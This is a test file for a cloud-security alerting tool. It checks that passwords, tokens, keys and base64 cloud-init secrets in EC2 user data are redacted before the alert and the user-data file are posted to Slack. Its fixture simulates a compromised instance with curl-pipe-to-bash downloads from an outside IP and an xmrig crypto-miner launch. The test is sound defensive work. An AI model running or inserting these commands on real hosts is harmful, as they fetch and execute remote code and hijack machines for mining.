import { gzipSync } from 'node:zlib';
import { redactSecrets } from '../../src/redact';
import { FakeAws } from '../support/fake-aws';
import { fixture, startHarness, tearDownAfterEach, waitFor, type Harness } from '../support/harness';
import { textOf, threadReplies } from '../support/slack-user';

const INSTANCE = 'i-0a1b2c3d4e5f60718';
const SECRETS = {
  secretKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  dbPassword: 'hunter2-Pg',
  mongoPassword: 'S3cr3t!Mongo',
  bearer: 'abcdefghijklmnopqrstuvwxyz123456',
  slackToken: 'xoxb-1234567890-abcdefghijkl',
  pem: 'MIIEowIBAAKCAQEA7privatekeybody',
  jsonPassword: 'p@ss w0rd',
};
// Every secret sits on a line the miner indicators flag, so it would be shown in the thread.
const USER_DATA = [
  '#!/bin/bash',
  `curl -s -H "Authorization: Bearer ${SECRETS.bearer}" http://203.0.113.50/install.sh | bash`,
  `AWS_SECRET_ACCESS_KEY=${SECRETS.secretKey} nohup /tmp/.x/xmrig -o stratum+tcp://pool.minexmr.com:4444 &`,
  `curl -s http://203.0.113.50/x | DB=postgres://app:${SECRETS.dbPassword}@db.internal:5432/app bash`,
  `wget -q "mongodb+srv://admin:${SECRETS.mongoPassword}@cluster0.example.net/x" -O /tmp/.x/xmrig`,
  `curl -s http://203.0.113.50/y | SLACK=${SECRETS.slackToken} sh`,
  `echo '{"password": "${SECRETS.jsonPassword}"}' > /tmp/.x/cfg.json`,
  '-----BEGIN RSA PRIVATE KEY-----',
  SECRETS.pem,
  '-----END RSA PRIVATE KEY-----',
  ...Array.from({ length: 20 }, (_, i) => `echo step ${i}`),
].join('\n');

function account(): FakeAws {
  const aws = new FakeAws();
  aws.account = '123456789012';
  aws.addWebServer(INSTANCE);
  Object.assign(aws.instances.get(INSTANCE)!, { userData: USER_DATA });
  return aws;
}

async function story(h: Harness) {
  expect((await h.postEvents(fixture('guardduty-crypto-dns'))).status).toBe(202);
  const card = await waitFor(() => h.slack.channelMessages('C02CRIT')[0], 'the alert card');
  const msg = await waitFor(() => threadReplies(h, card.channel, card.ts).find((m) => textOf(m).includes('The story of')), 'the story');
  return { card, text: textOf(msg) };
}

describe('secrets in user data are redacted before Slack sees them', () => {
  let h: Harness;
  let aws: FakeAws;
  tearDownAfterEach(() => ({ h, aws }));

  it('shows the suspicious lines and uploads the file without keys, passwords, tokens, private keys or connection-string passwords', async () => {
    aws = account();
    h = await startHarness({ file: { story: { enabled: true }, aws: { maxAttempts: 1 } } });
    const { card, text } = await story(h);
    expect(text).toContain('xmrig');
    expect(text).toContain('[redacted]');
    const file = await waitFor(() => [...h.slack.files.values()].find((f) => f.thread_ts === card.ts && f.content), 'the user-data file');
    expect(file.content).toContain('stratum+tcp://pool.minexmr.com:4444');
    expect(file.content).toContain('postgres://app:[redacted]@db.internal:5432/app');
    for (const secret of Object.values(SECRETS)) {
      expect(text).not.toContain(secret);
      expect(file.content).not.toContain(secret);
    }
  });

  it('uploads no user-data file when story.uploadUserData is off', async () => {
    aws = account();
    h = await startHarness({ file: { story: { enabled: true, uploadUserData: false }, aws: { maxAttempts: 1 } } });
    await story(h);
    // The story is posted before any upload would start; give a stray upload time to show up.
    await new Promise((r) => setTimeout(r, 300));
    expect(h.slack.callsOf('files.getUploadURLExternal')).toEqual([]);
  });
});

describe('secrets user data hides in other shapes', () => {
  const b64 = (text: string) => Buffer.from(text).toString('base64');

  it('redacts cloud-init write_files content given as base64 (one line, a YAML block, gzip) when the decoded file holds a secret', () => {
    const env = 'DB_HOST=db.internal\nDB_PASSWORD=Zq8-not-for-slack\n';
    const oneLine = b64(env);
    const block = (b64(env + '# padding to wrap the base64 over two lines\n').match(/.{1,40}/g) ?? []).join('\n      ');
    const gz = gzipSync(Buffer.from(env)).toString('base64');
    const userData = [
      '#cloud-config',
      'write_files:',
      '  - path: /etc/app/env',
      '    encoding: b64',
      `    content: ${oneLine}`,
      '  - path: /etc/app/env2',
      '    encoding: base64',
      '    content: |',
      `      ${block}`,
      '  - path: /etc/app/env3',
      '    encoding: gz+b64',
      `    content: ${gz}`,
      '  - path: /etc/motd',
      '    encoding: b64',
      `    content: ${b64('Welcome to the build host, be nice to it\n')}`,
    ].join('\n');
    const out = redactSecrets(userData);
    expect(out).not.toContain(oneLine);
    expect(out).not.toContain(gz);
    for (const line of block.split('\n')) expect(out).not.toContain(line.trim());
    expect(out.match(/\[redacted\] \(base64 text holding a secret\)/g)).toHaveLength(3);
    // A file without a secret stays readable to the analyst.
    expect(out).toContain(b64('Welcome to the build host, be nice to it\n'));
    expect(out).toContain('path: /etc/app/env');
  });

  it('redacts DB_PASS=…, curl -u user:pass and their relatives, keeping the names', () => {
    const cases: [string, string, string][] = [
      ['export DB_PASS=Zq8-not-for-slack', 'Zq8-not-for-slack', 'export DB_PASS=[redacted]'],
      ['MYSQL_PASS="Zq8 not for slack" ./start', 'Zq8 not for slack', 'MYSQL_PASS=[redacted] ./start'],
      ['curl -s -u deploy:Zq8-not-for-slack https://repo.internal/x.sh | sh', 'Zq8-not-for-slack', '-u deploy:[redacted] https://repo.internal/x.sh'],
      ["curl --user 'deploy:Zq8-not-for-slack' https://repo.internal/x", 'Zq8-not-for-slack', "--user 'deploy:[redacted]'"],
      ['curl -udeploy:Zq8-not-for-slack https://repo.internal/x', 'Zq8-not-for-slack', '-udeploy:[redacted]'],
      ['wget --http-password=Zq8-not-for-slack https://repo.internal/x', 'Zq8-not-for-slack', '--http-password=[redacted]'],
      ['echo "$PASSPHRASE" && GPG_PASSPHRASE=Zq8-not-for-slack gpg -d', 'Zq8-not-for-slack', 'GPG_PASSPHRASE=[redacted]'],
    ];
    for (const [line, secret, shown] of cases) {
      const out = redactSecrets(line);
      expect(out).not.toContain(secret);
      expect(out).toContain(shown);
    }
    // Words that merely contain "pass" are left alone.
    expect(redactSecrets('BYPASS_PROXY=1 COMPASS=north')).toBe('BYPASS_PROXY=1 COMPASS=north');
  });
});
